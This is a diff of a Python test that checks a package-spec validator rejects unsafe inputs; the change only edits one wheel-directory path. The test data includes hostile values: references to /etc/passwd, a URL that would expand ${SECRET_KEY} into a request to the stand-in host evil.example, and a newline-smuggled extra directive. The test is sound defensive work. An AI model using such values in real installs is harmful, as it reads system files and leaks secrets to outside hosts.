@@ -216,7 +216,7 @@ def test_a_password_of_an_index_is_used_and_kept_out_of_lock_and_log(
         (["/etc/passwd"], "bad-spec", "/etc/passwd"),
         (["shop @ file:///etc/passwd"], "bad-spec", "file:///etc/passwd"),
         (["shop @ git+https://github.com/a/b"], "bad-spec", "git+https"),
-        (["--find-links /opt/wheels", "shop"], "bad-spec", "--find-links"),
+        (["--find-links /srv/wheels", "shop"], "bad-spec", "--find-links"),
         (["shop-1.0-py3-none-any.whl"], "bad-spec", "shop-1.0"),
         (["shop @ https://${SECRET_KEY}.evil.example/x.whl"], "bad-spec", "variables"),
         (["shop\n-e ."], "bad-spec", "another line"),
